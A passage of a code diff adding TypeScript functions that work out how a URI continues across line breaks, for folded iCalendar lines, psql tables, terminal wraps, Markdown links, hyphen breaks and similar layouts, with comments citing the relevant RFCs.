+      // LaTeX's "\~{}", a tilde in text mode (an accent on an empty group): the "~" is
+      // the URI's, the group none of it — "http://www.x.edu/\~{}ab123/" (pandoc's LaTeX)
+      drop(scan.i, scan.i + 1, NO_CHAR);
+      drop(scan.i + 2, scan.i + 4, NO_CHAR);
+      scan.i += 4;
+    } else {
+      drop(scan.i, scan.i + 1, NO_CHAR);
+      scan.i++; // the escaped character is read as any other
+    }
+    return NEXT;
+  }
+  return STOP;
+}
+
+/** the loop's step at a line break inside the URI: a fold or wrap that it goes on past, or its end (scanBare's loop; NEXT, STOP, MORE or NONE) */
+function lineBreakStep(ctx: ScanContext): number {
+  const { buf, n, final } = ctx;
+  const { limit, rawStart, s, c1, breaksBefore, mailto, hasAuthority, authStart } = scan;
+  // an iCalendar or vCard content line folded inside the URI (RFC 5545 §3.1, RFC 6350
+  // §3.2: a line break and one space or tab are deleted when unfolding):
+  // "ATTENDEE;PARTSTAT=ACCEPTED:mailto:cyrus@exampl" + CRLF + " e.com" — exact, so it
+  // comes first (after a hyphen too: "…@exam-" + CRLF + " ple.com" has one reading)
+  let f = contentLineFold(buf, s, scan.i, n, final);
+  // … or a link in a TEXT value folded by its writer
+  if (f === -1) f = textValueFold(buf, s, scan.i, n, final);
+  // … or a row of curl's --trace-ascii dump cut at its width (trace-rows.ts)
+  if (f === -1) f = traceRowAfter(buf, scan.i, n, final);
+  // … or an LDIF line folded (ldif-folds.ts)
+  if (f === -1) f = ldifFoldAt(buf, s, scan.i, n, final);
+  if (f === MORE_INPUT) return MORE;
+  if (f > 0) {
+    drop(scan.i, f, NO_CHAR);
+    scan.i = f;
+    return NEXT;
+  }
+  // psql's old-ascii linestyle: ";" at the cell's divider on the next line
+  // (psql-linestyles.ts), the expanded display with border 1
+  if (scan.i < breaksBefore && scan.i >= ctx.breakFrom) {
+    const t = psqlOldAsciiWrapAt(buf, scan.cellPiece, scan.i, n, final, limit);
+    if (t === MORE_INPUT) return MORE;
+    if (t > 0) {
+      drop(scan.i, t, NO_CHAR);
+      scan.i = t;
+      scan.cellPiece = t;
+      return NEXT;
+    }
+  }
+  // psql's wrapped cell, the row's last or its expanded display's: "." at the break and
+  // after the next line's border (table-cells.ts psqlLineWrapAt)
+  if (buf[scan.i - 1] === 0x2e && scan.i < breaksBefore && scan.i >= ctx.breakFrom) {
+    const t = psqlLineWrapAt(buf, scan.cellPiece, scan.i, n, final, limit);
+    if (t === MORE_INPUT) return MORE;
+    if (t > 0) {
+      drop(scan.i - 1, t, NO_CHAR);
+      scan.i = t;
+      scan.cellPiece = t;
+      return NEXT;
+    }
+  }
+  // a reStructuredText hyperlink target's URI goes on in the target's indented block
+  // (".. _name: http://a.example/" LF "   long/path") — exact too
+  const r = rstTargetFold(buf, s, scan.i, n, final);
+  if (r === MORE_INPUT) return MORE;
+  if (r > 0) {
+    drop(scan.i, r, NO_CHAR);
+    scan.i = r;
+    return NEXT;
+  }
+  // a Markdown link's destination goes on to the link's ")" on the next line
+  // (bare-line-breaks.ts destinationBreakAt) — exact too, but after a hyphen, whose
+  // two readings are hyphenBreak's
+  if (
+    buf[scan.i - 1] !== 0x2d &&
+    rawStart - 2 >= ctx.lo &&
+    buf[rawStart - 1] === 0x28 &&
+    buf[rawStart - 2] === 0x5d &&
+    scan.i < breaksBefore &&
+    scan.i >= ctx.breakFrom
+  ) {
+    const d = destinationBreakAt(buf, rawStart, s, scan.i, n, final);
+    if (d === MORE_INPUT) return MORE;
+    if (d > 0) {
+      drop(scan.i, d, NO_CHAR);
+      scan.i = d;
+      return NEXT;
+    }
+  }
+  // a terminal's row cut at its width inside the URI (terminal-wrap.ts): first, for a
+  // hyphen there is the URI's, and a terminal cuts after any character (not "=":
+  // quoted-printable's soft break in mail read as text, RFC 2045 §6.7). Not after a
+  // hyphen's break: a terminal's rows are all cut at its width, none at a hyphen (and
+  // its look at the rows around each break, at every break of a run of "tel:1-" LF
+  // "x;…" joined up to maxLength, made that run 6× slower: linear-time.test.ts)
+  if (
+    scan.i - 1 > c1 + 2 &&
+    onlyDrops(HARD_WRAP) &&
+    scan.i < breaksBefore &&
+    scan.i >= ctx.breakFrom &&
+    buf[scan.i - 1]! > 0x20 &&
+    buf[scan.i - 1] !== 0x3d
+  ) {
+    const h = terminalBreakAt(buf, scan.i, n, final, fold);
+    if (h === MORE_INPUT) return MORE;
+    if (h > 0) {
+      scan.lastWrap = scan.i;
+      scan.lastWrapEnd = fold.wrapEnd;
+      drop(scan.i, h, HARD_WRAP);
+      scan.i = h;
+      return NEXT;
+    }
+  }
+  // a line break right after a hyphen: 2396bis App. E — "No whitespace should be
+  // introduced after a hyphen", and "the interpreter of a URI containing a line break
+  // immediately after a hyphen should ignore all unescaped whitespace around the line
+  // break, and should be aware that the hyphen may or may not actually be part of the
+  // URI": "https://example.com/regular-dlls-statically-linked-" + LF + "  to-mfc". The
+  // hyphen stays in `uri`; the reading without it is the record's variant
+  if (
+    buf[scan.i - 1] === 0x2d &&
+    scan.i - 1 > c1 &&
+    scan.i < breaksBefore &&
+    scan.i >= ctx.breakFrom
+  ) {
+    const h = hyphenBreak(buf, s, scan.i, n, final, false, false, true);
+    if (h === MORE_INPUT) return MORE;
+    if (h > 0) {
+      drop(scan.i, h, HYPHEN_BREAK);
+      scan.i = h;
+      return NEXT;
+    }
+  }
+  // a query broken before its next pair, "&name=" opening the next line after its
+  // indentation (RFC 6749 §4.1.2's redirection; bare-line-breaks.ts queryPairBreak)
+  if (scan.i < breaksBefore && scan.i >= ctx.breakFrom && onlyLineBreakDrops()) {
+    const q = queryPairBreak(buf, s, c1, scan.i, n, final);
+    if (q === MORE_INPUT) return MORE;
+    if (q > 0) {
+      drop(scan.i, q, HARD_WRAP);
+      scan.i = q;
+      return NEXT;
+    }
+  }
+  // a line hard-wrapped at a fixed width inside the URI (bare-line-breaks.ts hardWrapAt);
+  // the URI as cut at the break stays the fallback reading (below). Two bytes at least
+  // after the ":" ("scheme://" alone is the next rule's), and no escape or fold before
+  // it: its cut reading is the record's variant, and JSON's "\/" mixed with a "/" from
+  // the next line would end the URI at the first backslash (mixesSlashes)
+  if (
+    scan.i - 1 > c1 + 2 &&
+    onlyLineBreakDrops() &&
+    scan.i < breaksBefore &&
+    scan.i >= ctx.breakFrom &&
+    (WRAP_PIECE_ENDS[buf[scan.i - 1]!] === 1 ||
+      (buf[scan.i - 1]! >= 0x80 && letterBefore(buf, scan.i, c1)) ||
+      // (a query's "=" or "?" too, once a hard wrap was taken: a chain of cuts, wordCutAt)
+      (scan.lastWrap >= 0 && (buf[scan.i - 1] === 0x3d || buf[scan.i - 1] === 0x3f)))
+  ) {
+    const h = hardWrapAt(buf, s, scan.i, n, final);
+    if (h === MORE_INPUT) return MORE;
+    if (h > 0) {
+      scan.lastWrap = scan.i;
+      scan.lastWrapEnd = fold.wrapEnd;
+      drop(scan.i, h, HARD_WRAP);
+      scan.i = h;
+      return NEXT;
+    }
+  }
+  // … or after a DOI's "10." before its registrant's digits and "/" ("https://doi.org/10."
+  // LF "1016/j.cell.2009.07.096"; bare-line-breaks.ts doiWrapAt), or after a query's "?"
+  // or "&" before its next field ("?research=" LF "3159&…" is no field: "…?" LF
+  // "id=3&…" is; queryWrapAt)
+  if (
+    (buf[scan.i - 1] === 0x2e ||
+      ((buf[scan.i - 1] === 0x3f || buf[scan.i - 1] === 0x26 || buf[scan.i - 1] === 0x3d) &&
+        (hasAuthority || mailto))) &&
+    onlyLineBreakDrops() &&
+    scan.i < breaksBefore &&
+    scan.i >= ctx.breakFrom
+  ) {
+    const h =
+      buf[scan.i - 1] === 0x2e
+        ? doiWrapAt(buf, s, scan.i, n, final)
+        : queryWrapAt(buf, s, scan.i, n, final);
+    if (h === MORE_INPUT) return MORE;
+    if (h > 0) {
+      scan.lastWrap = scan.i;
+      scan.lastWrapEnd = fold.wrapEnd;
+      drop(scan.i, h, HARD_WRAP);
+      scan.i = h;
+      return NEXT;
+    }
+  }
+  // … or inside a mailto: address before its "@" (bare-line-breaks.ts mailtoAddressBreakAt)
+  if (mailto && onlyLineBreakDrops() && scan.i < breaksBefore && scan.i >= ctx.breakFrom) {
+    const h = mailtoAddressBreakAt(buf, c1, scan.i, n, final);
+    if (h === MORE_INPUT) return MORE;
+    if (h > 0) {
+      scan.lastWrap = scan.i;
+      scan.lastWrapEnd = fold.wrapEnd;
+      drop(scan.i, h, HARD_WRAP);
+      scan.i = h;
+      return NEXT;
+    }
+  }
+  // … or after a "." before a file name's extension ("…/lppl." LF "txt and version";
+  // bare-line-breaks.ts extensionWrapAt)
+  if (
+    buf[scan.i - 1] === 0x2e &&
+    hasAuthority &&
+    onlyLineBreakDrops() &&
+    scan.i < breaksBefore &&
+    scan.i >= ctx.breakFrom
+  ) {
+    const pe = authorityEnd(buf, authStart, scan.i);
+    const h = extensionWrapAt(buf, scan.i, n, final, pe < scan.i && buf[pe] === 0x2f ? pe : -1);
+    if (h === MORE_INPUT) return MORE;
+    if (h > 0) {
+      scan.lastWrap = scan.i;
+      scan.lastWrapEnd = fold.wrapEnd;
+      drop(scan.i, h, HARD_WRAP);
+      scan.i = h;
+      return NEXT;
+    }
+  }
+  // the host on the next line, when it is a dotted name (hostAfterBreak):
+  // - "scheme://" and the line's end: no URI ends there (RFC 3986 §3.2: an authority
+  //   follows the "//"). A man page breaks "http://\:fontforge.sf.net" at its break
+  //   point: "available from http://" LF "       fontforge.sf.net" (not a word of prose:
+  //   "begin with http://" LF "or https://");
+  // - a host broken after its first label's ".": "from http://www." LF
+  //   "poker-edge.com/stats.php" (pdftotext's text of a PDF whose \url broke there: 55
+  //   in 900 TeX Live manuals gave "http://www"); a "." after a dotted host is the
+  //   sentence's;
+  // - a dotted host broken after its last ".", when the next line opens with a common
+  //   top-level domain and "/" or a port ("https://tex.stackexchange." LF
+  //   "com/a/640035", url.sty's break after a "."; 37 in 900 TeX Live manuals)
+  if (
+    scan.i >= ctx.breakFrom &&
+    scan.i < breaksBefore &&
+    ((scan.i === c1 + 2 && buf[c1] === 0x2f && buf[c1 + 1] === 0x2f) ||
+      (hasAuthority && buf[scan.i - 1] === 0x2e && scan.i - 1 > authStart))
+  ) {
+    const h = hostAfterBreak(buf, s, scan.i, n, final, authStart);
+    if (h === MORE_INPUT) return MORE;
+    if (h > 0) {
+      drop(scan.i, h, NO_CHAR);
+      scan.i = h;
+      return NEXT;
+    }
+  }
+  return STOP;
+}
+
+/** after scanBare's loop, the run read up to i: where the URI ends, and its record (FOUND, NONE or MORE) */
+function finishBare(ctx: ScanContext, cand: Candidate, i: number): number {
+  const { buf, n, final } = ctx;
+  const {
+    rawStart,
+    s,
+    c,
+    c1,
+    delimiter,
+    asciiOnly,
+    uSlashes,
+    hasAuthority,
+    authStart,
+    encodedClose,
+    closes,
+    bOpens,
+    bCloses,
+    nonAscii,
+    apostrophe,
+    lastWrap,
+    lastWrapEnd,
+    placeholder,
+    quotedEnd,
+    firstPipe,
+    destination,
+    tmplScan,
+    braces,
+    firstHash,
+  } = scan;
+  let { opens } = scan;
   // POD's escape of ">" (perlpod: E<gt>) closes what E<lt> opened: the "E" before it is the
   // markup's, not the URI's — "E<lt>http://search.cpan.org/dist/Foo/E<gt>"
   let podGt = false;
